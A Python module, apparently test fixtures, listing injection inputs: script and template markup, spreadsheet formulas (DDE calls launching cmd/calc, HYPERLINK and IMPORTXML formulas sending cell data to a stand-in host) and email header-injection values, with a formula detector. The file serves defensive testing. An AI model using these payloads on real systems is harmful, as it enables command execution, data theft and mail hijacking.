"""What others write to have a page, a spreadsheet or a mail do something."""

import re

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</textarea></pre></title><b>",
    "{{ 7 * 7 }}{% raw %}",
    "a\u2028b\u202eevil & <i>",
)
_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u200b=",
)
FORMULAS = [
    *(f"{sign}1+1" for sign in _SIGNS),
    "\t1",
    "\r1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"!A0")',
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'x","=1+1',
    '";=1+1;"',
]  # fmt: skip
_FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")

HEADERS = (
    "x\r\nBcc: all@victim.example",
    "x\nSubject: other",
    "x\rTo: all@victim.example",
    "x\u2028Bcc: all@victim.example",
    "x\u0085Bcc: all@victim.example",
    "x\r\n\r\n<b>another body</b>",
    "x\r\n.\r\nMAIL FROM:<a@b.example>",
    "=?utf-8?q?=0D=0ABcc=3A_all=40victim=2Eexample?=",
)


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet would compute *cell*, or a line of it."""
    return any(_FORMULA.match(line) for line in cell.splitlines())
